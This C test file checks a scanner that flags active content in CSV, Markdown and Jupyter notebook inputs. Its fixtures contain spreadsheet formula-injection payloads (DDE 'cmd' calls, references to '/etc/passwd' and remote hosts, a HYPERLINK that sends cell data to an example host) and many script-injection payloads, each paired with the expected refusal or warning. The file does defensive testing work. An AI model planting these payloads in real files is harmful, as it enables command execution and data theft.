/* SPDX-License-Identifier: ISC */
#include "active_cases.h"

#define CSV active_csv_scan, "csv", "csv"
#define MD active_markdown_scan, "markdown", "markdown"
#define MD_LOCAL active_markdown_scan, "markdown", "markdown html-local"
#define NB active_notebook_scan, "notebook json", "notebook"
#define NB_ANY active_notebook_scan, "notebook json", "notebook html-any"

static const struct active_case tables[] = {
    {"numbers", CSV, "a,b\nx,-1250.5\ny,+3\nz,-1e-7\nw,-\nv,-12%\nu,+49 30 1234\nt,-inf\ns,-1|-2|-3\nr,-2-3j\n", ""},
    {"quoted", CSV, "\"a, b\",\"c \"\"d\"\"\"\r\n\"x\ny\",-1\r\n", ""},
    {"equals inside", CSV, "a=b,c=d\nhttps://example.org/?a=b,x\n", ""},
    {"plain formula", CSV, "a,=A1+B1\n", "csv-formula warn"},
    {"first cell", CSV, "=A1\n", "csv-formula warn"},
    {"separator", CSV, "sep=;\na;1\n", ""},
    {"separator of its own", CSV, "sep=^\na^=DDE(1)\n", "csv-formula refuse"},
    {"separator in quotes", CSV, "\xEF\xBB\xBF\"SEP=x\"\r\nax=DDE(1)\n", "csv-formula refuse"},
    {"no separator", CSV, "sep=abc,1\n", ""},
    {"unit", CSV, "a,-5 degrees\n", "csv-formula warn"},
    {"letters of numbers", CSV, "x,-jj\n", "csv-formula warn"},
    {"name", CSV, "@someone,x\n", "csv-formula warn"},
    {"blank before", CSV, "a, \t =A1\n", "csv-formula warn"},
    {"mark before", CSV, "\xEF\xBB\xBF=A1\n", "csv-formula warn"},
    {"wide equals", CSV, "a,\xEF\xBC\x9D" "A1\n", "csv-formula warn"},
    {"tab in a quoted cell", CSV, "\"\t=A1\"\n", "csv-formula warn"},
    {"line's end in a quoted cell", CSV, "x,\"\n=A1\"\n", "csv-formula warn"},
    {"text behind a line's end", CSV, "x,\"\ntext\"\n", ""},
    {"cell of another file", CSV, "x,='file:///etc/passwd'#$a.A1\n", "csv-formula refuse"},
    {"cell of another host", CSV, "x,='\\\\host\\[a.xlsx]a'!A1\n", "csv-formula refuse"},
    {"other separators", CSV, "a;=A1\n", "csv-formula warn"},
    {"bar as separator", CSV, "a|=A1\n", "csv-formula warn"},
    {"dde", CSV, "x,\"=cmd|' /C calc'!A0\"\n", "csv-formula refuse"},
    {"dde unquoted", CSV, "x,=cmd|' /C calc'!A0\n", "csv-formula refuse"},
    {"dde behind a sum", CSV, "x,-2+3+cmd|' /C calc'!A0\n", "csv-formula refuse"},
    {"dde behind at", CSV, "@SUM(1+1)*cmd|' /C calc'!A0", "csv-formula refuse"},
    {"dde as a function", CSV, "x;-dde(1;2)\n", "csv-formula refuse"},
    {"hyperlink", CSV, "x,\"=HYPERLINK(\"\"https://example.org/?\"\"&A1)\"\n", "csv-formula refuse"},
    {"web service", CSV, "x,=1+WebService(\"http://example.org\")\n", "csv-formula refuse"},
    {"behind an odd quote", CSV, "a\"b,=HYPERLINK(1)\n", "csv-formula refuse"},
    {"both", CSV, "=A1\n=RTD(1)\n", "csv-formula warn, csv-formula refuse"},
};

Test(active_table, csv)
{
    active_table(tables, sizeof(tables) / sizeof(tables[0]));
}

static const struct {
    const char *claims, *types;
    unsigned depth;
    bool applies;
} scanned[] = {
    {"csv", "text", 0, true},         {"tsv", "text csv", 3, true},   {"text", "csv", 0, true},
    {"text", "tsv csv png", 0, true}, {"text", "csv", 1, false},      {"text", "csv text", 0, false},
    {"text", "csv log", 0, false},    {"text", "csv json", 0, false}, {"text", "text", 0, false},
    {"png", "csv", 0, false},
};

Test(active_table, text_is_a_table_only_where_it_can_be_nothing_else)
{
    for (size_t i = 0; i < ARRAY_LEN(scanned); i++) {
        struct type_set admitted = {{0}};
        struct inspection in = {.admitted = &admitted, .depth = scanned[i].depth};
        each_type(scanned[i].types, &admitted, NULL);
        each_type(scanned[i].claims, NULL, &in.claims);
        cr_expect_eq(active_csv_applies(&in), scanned[i].applies, "%s as %s at depth %u", scanned[i].claims,
                     scanned[i].types, scanned[i].depth);
        type_group_add(&admitted, "passive", 7);
        bool claimed = claims_has(&in.claims, TYPE_CSV) || claims_has(&in.claims, TYPE_TSV);
        cr_expect_eq(active_csv_applies(&in), claimed, "%s as passive", scanned[i].claims);
    }
}

Test(active_table, csv_long_cell)
{
    static char text[20000];
    struct active_case c = {"long", CSV, text, "csv-formula refuse"};
    memset(text, 'a', sizeof(text) - 1);
    memcpy(text, "x,=", 3);
    active_table(&c, 1);
}

static const struct active_case prose[] = {
    {"plain", MD, "# t\n\n[x](https://example.org) ![i](img/a.png) <b>bold</b> <https://example.org>\n", ""},
    {"code span", MD, "use `<script>` or ``<img onerror=a()>``\n", ""},
    {"fence", MD, "~~~html\n<script>a()</script>\n![x](https://example.org/a.png)\n~~~\n", ""},
    {"longer fence", MD, "````\n```\n<script>\n````\n", ""},
    {"raw html", MD, "text <script>a()</script>\n", "html-script refuse"},
    {"handler", MD, "<img src=x onerror=a()>\n", "html-handler refuse"},
    {"open fence hides nothing", MD, "```\n<script>a()</script>\n", "html-script refuse"},
    {"open span hides nothing", MD, "a ` b\n\n<script>a()</script> ` c\n", "html-script refuse"},
    {"remote image", MD, "![x](https://example.org/a.png)\n", "external-load refuse"},
    {"remote image in a link", MD, "[![x](https://example.org/a.svg)](https://example.org)\n", "external-load refuse"},
    {"remote image by label", MD, "![x][y]\n\n[y]: https://example.org/a.png\n", "external-load refuse"},
    {"label of a link", MD, "[x][y]\n\n[y]: https://example.org/\n", ""},
    {"script link", MD, "[x](javascript:a())\n", "html-url refuse"},
    {"script link, escaped mark", MD, "[x](javascript\\:a())\n", "html-url refuse"},
    {"picture that is a document", MD, "[x](data:image/svg+xml,x) ![x](data:image/svg+xml,x)\n", "html-url refuse"},
    {"script by label", MD, "[x][y]\n\n[y]:\n  javascript:a() 'title'\n", "html-url refuse"},
    {"script in a note", MD, "[^1]: JavaScript: the language\n", ""},
    {"script autolink", MD, "<javascript:a()>\n", "html-url refuse"},
    {"autolink and span", MD, "<https://example.org/> `<script>`", ""},
    {"fence in an item", MD, "1. a\n   ```\n   <script>a</script>\n   ```\n\n```\n<script>a</script>\n```\n", ""},
    {"fence with a word behind one of an item", MD, "- ```\n  a\n  ```\n\n```html\n<script>a</script>\n```\n", ""},
    {"fence that its item ends", MD, "- a\n  ```\nb\n```\nc\n```\n<script>a</script>\n```\n", "html-script refuse"},
    {"fence of an item", MD, "- ```\n  a\n  ```\n\n<script>a</script>\n\n```\nb\n```\n", "html-script refuse"},
    {"fence that a word keeps open", MD, "```\n```js\n```\n<script>a</script>\n```\n", "html-script refuse"},
    {"fence behind a comment", MD, "<!-- toc -->\n\n```\n<script>a</script>\n```\n", ""},
    {"fence behind HTML", MD, "# t\n\n<div>\nx\n</div>\n\n```\n<script>a</script>\n```\n", ""},
    {"fence in HTML", MD, "# t\n\n<div>\n```html\n<script>a</script>\n```\n</div>", "html-script refuse"},
    {"span in HTML", MD, "# t\n\n<div>\n` <script>a</script> `\n</div>", "html-script refuse"},
    {"spans of items", MD, "- the ` key\n- `<script>`", ""},
    {"span over cells", MD, "| `a | <script>a</script> ` |", "html-script refuse"},
    {"span over items", MD, "- `a\n- <script>a</script> `", "html-script refuse"},
    {"span over a heading", MD, "`a\n# h\n<script>a</script> `", "html-script refuse"},
    {"backtick in a comment", MD, "b <!-- > ` --> <script>a</script> <!-- ` -->", "html-script refuse"},
    {"backtick in a tag", MD, "b <a title=\">`\"><script>a</script><b title=\"`\">", "html-script refuse"},
    {"fences that end with carriage returns", MD, "```\ra\r```\r<script>a</script>\r```\r", "html-script refuse"},
    {"escaped backslash", MD, "\\\\`<script>a</script>`", ""},
    {"escaped backtick", MD, "\\`<script>a</script>`", "html-script refuse"},
    {"autolink", MD, "<https://example.org/> <mailto:a@example.org> `<javascript:a()>`\n", ""},
    {"script link, reference", MD, "[x](java&#x73;cript:a())\n", "html-url refuse"},
    {"indented code", MD, "Text:\n\n    <script>a()</script>\n\n\t<img onerror=a()>\n\ntext\n", ""},
    {"indented in a list", MD, "- item\n\n    <script>a()</script>\n", "html-script refuse"},
    {"indented in a numbered list", MD, "1. item\n\ntext\n2) item\n\n    <script>a()</script>\n", "html-script refuse"},
    {"indented in a note", MD, "!!! note\n\n    <script>a()</script>\n", "html-script refuse"},
    {"indented, same paragraph", MD, "text\n    <script>a()</script>\n", "html-script refuse"},
    {"indented in raw html", MD, "text <pre>\n\ntext\n\n    <img src=x onerror=a()>\n", "html-handler refuse"},
    {"embed", MD, "<iframe src=a.html></iframe>\n", "html-embed refuse"},
    {"base", MD, "<base href=https://example.org/>\n", "html-base refuse"},
    {"local html admitted", MD_LOCAL, "<script>a()</script>\n", "html-script note"},
    {"html image", MD, "<img src=https://example.org/a.png>\n", "external-load refuse"},
};

Test(active_table, markdown)
{
    active_table(prose, sizeof(prose) / sizeof(prose[0]));
}

#define CELL(outputs) "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[\"'<script>'\"],\"outputs\":[" outputs "]}]}"
#define SHOWN(data) CELL("{\"output_type\":\"display_data\",\"data\":{" data "}}")

static const struct active_case notebooks[] = {
    {"stream", NB, CELL("{\"name\":\"stdout\",\"text\":[\"<script>ok\\n\"]}"), ""},
    {"image", NB, SHOWN("\"image/png\":\"iVBORw0KGgo=\",\"text/plain\":\"<script>\""), ""},
    {"table", NB, SHOWN("\"text/html\":[\"<table>\",\"<tr><td>1</table>\"]"), ""},
    {"script", NB, SHOWN("\"text/html\":\"<script>a()</script>\""), "html-script refuse"},
    {"split", NB, SHOWN("\"text/html\":[\"<scr\",\"ipt>a()\"]"), "html-script refuse"},
    {"escaped", NB, SHOWN("\"text/html\":\"\\u003cscript\\u003e\""), "html-script refuse"},
    {"escaped key", NB, SHOWN("\"text\\/h\\u0074ml\":\"<img onerror=a()>\""), "html-handler refuse"},
    {"twice", NB, SHOWN("\"text/html\":\"<script>\",\"text/html\":\"x\""), "html-script refuse"},
    {"svg", NB, SHOWN("\"image/svg+xml\":\"<svg onload=a()>\""), "html-handler refuse"},
    {"javascript", NB, SHOWN("\"application/javascript\":\"a()\""), "html-script refuse"},
    {"no javascript", NB, SHOWN("\"application/javascript\":null"), ""},
    {"widget", NB, SHOWN("\"application/vnd.jupyter.widget-view+json\":{\"model_id\":\"x\"}"), "html-embed refuse"},
    {"latex", NB, SHOWN("\"text/latex\":\"\\\\href{javascript:a()}{x}\""), "html-url refuse"},
    {"remote image", NB, SHOWN("\"text/html\":\"<img src=https://example.org/a>\""), "external-load refuse"},
    {"markdown output", NB, SHOWN("\"text/markdown\":\"<script>\""), "html-script refuse"},
    {"markdown cell", NB, "{\"cells\":[{\"source\":\"<script>\",\"cell_type\":\"markdown\"}]}", "html-script refuse"},
    {"markdown cell, code", NB, "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"`<script>`\"]}]}", ""},
    {"markdown cell, covered", NB, "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":\"<script>\",\"metadata\":{\"source\":\"x\"}}]}", "html-script refuse"},
    {"raw cell", NB, "{\"cells\":[{\"cell_type\":\"raw\",\"source\":[\"<scr\",\"ipt>\"]}]}", "html-script refuse"},
    {"code cell", NB, "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"'<script>'\"]}]}", ""},
    {"two kinds", NB, "{\"cells\":[{\"cell_type\":\"raw\",\"cell_type\":\"code\",\"source\":\"<script>\"}]}", "html-script refuse"},
    {"third version", NB, "{\"worksheets\":[{\"cells\":[{\"outputs\":[{\"html\":[\"<script>\"]}]}]}],\"nbformat\":3}", "html-script refuse"},
    {"third version, script", NB, "{\"worksheets\":[{\"cells\":[{\"outputs\":[{\"javascript\":\"a()\"}]}]}]}", "html-script refuse"},
    {"the word html", NB, SHOWN("\"application/json\":{\"html\":\"<script>\"}"), ""},
    {"upper case", NB, SHOWN("\"Text/HTML\":\"<script>\""), "html-script refuse"},
    {"parameter", NB, SHOWN("\"text/html;charset=utf-8\":\"<script>\""), "html-script refuse"},
    {"attachment", NB, "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":\"x\",\"attachments\":{\"a\":{\"image/svg+xml\":\"PHN2ZyBvbmxvYWQ9YSgpPg==\"}}}]}",
     "html-handler refuse"},
    {"no base64", NB, SHOWN("\"image/png\":\"<script>\""), "inspect/incomplete refuse"},
    {"credential over strings", NB, "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"a = 'cred\",\"ential+mark'\"]}]}", "secret/ refuse"},
    {"credential over strings of another list", NB, "{\"metadata\":{\"x\":[\"cred\",\"ential+mark\"]}}", "secret/ refuse"},
    {"lines of a list", NB, "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"credential\\n\",\"+mark\"]}]}", ""},
    {"broken", NB, "{\"cells\":[", "inspect/incomplete refuse"},
    {"two documents", NB, "{} {}", "inspect/incomplete refuse"},
    {"any", NB_ANY, SHOWN("\"text/html\":\"<script>\""), "html-script note"},
};

Test(active_table, notebook)
{
    active_table(notebooks, sizeof(notebooks) / sizeof(notebooks[0]));
}

Test(active_table, notebook_deep)
{
    static char text[2001];
    struct active_case c = {"deep", NB, text, "inspect/incomplete refuse"};
    memset(text, '[', 2000);
    active_table(&c, 1);
}

Test(active_table, window_borders)
{
    static const struct active_case cut[] = {
        {"csv", CSV, ",\"=x|\"\"\n!\"\r\n", "csv-formula refuse"},
        {"csv wide", CSV, ",\xEF\xBB\xBF\xEF\xBC\x9Dx|!\n", "csv-formula refuse"},
        {"notebook", NB, "{\"text/html\":[\"<scr\",\"\\u0069pt>\"]}", "html-script refuse"},
    };
    active_borders(&cut[0], "", '1');
    active_borders(&cut[1], "", '1');
    active_borders(&cut[2], "", ' ');
}
